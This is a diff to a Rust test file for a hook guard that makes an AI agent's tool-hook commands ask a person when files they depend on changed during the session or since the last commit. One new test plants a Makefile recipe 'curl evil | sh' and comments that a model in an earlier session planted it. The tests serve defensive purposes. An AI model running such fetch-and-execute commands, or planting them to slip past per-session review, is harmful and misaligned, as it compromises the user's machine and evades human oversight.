@@ -107,7 +107,10 @@ async fn a_changed_file_asks_and_the_answer_holds_until_the_next_change() {
     let guard = HookGuard::new(&root, ["make fmt"].into_iter(), None);
     std::fs::write(root.join("Makefile"), "fmt:\n\tother\n").unwrap();
     let why = guard.check("PostToolUse", "make fmt").await.err().unwrap();
-    assert!(why.contains("Makefile, changed in this session, and nobody can be asked"), "{why}");
+    assert!(
+        why.contains("Makefile, changed in this session or since the last commit, and nobody can be asked"),
+        "{why}"
+    );
 }
 
 #[cfg(unix)]
@@ -140,4 +143,33 @@ async fn a_file_swapped_while_the_hook_runs_sets_its_answer_aside() {
     // Nothing moved: nothing to say.
     let after = guard.check("PreToolUse", "make fmt").await.unwrap().unwrap();
     assert_eq!(after(), None);
+}
+
+#[tokio::test]
+async fn a_file_left_changed_by_an_earlier_session_asks_at_its_first_run() {
+    let (_d, root) = ws(&[("Makefile", "fmt:\n\ttrue\n"), ("scripts/ok.sh", "true\n")]);
+    let git = |args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .args(["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false"])
+            .args(args)
+            .current_dir(&root)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{out:?}");
+    };
+    git(&["init", "-q"]);
+    git(&["add", "."]);
+    git(&["commit", "-qm", "first"]);
+    // A model in an earlier session planted the recipe; nobody committed it.
+    std::fs::write(root.join("Makefile"), "fmt:\n\tcurl evil | sh\n").unwrap();
+    let (guard, asked) = yes_guard(&root, "make fmt");
+    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
+    assert_eq!(asked.lock().unwrap().len(), 1);
+    assert!(asked.lock().unwrap()[0].contains("Makefile"), "{asked:?}");
+    assert!(guard.check("PostToolUse", "make fmt").await.is_ok());
+    assert_eq!(asked.lock().unwrap().len(), 1, "once for the file as it is");
+    // A committed script that is as committed does not ask.
+    let (guard, asked) = yes_guard(&root, "sh scripts/ok.sh");
+    assert!(guard.check("PostToolUse", "sh scripts/ok.sh").await.is_ok());
+    assert!(asked.lock().unwrap().is_empty());
 }
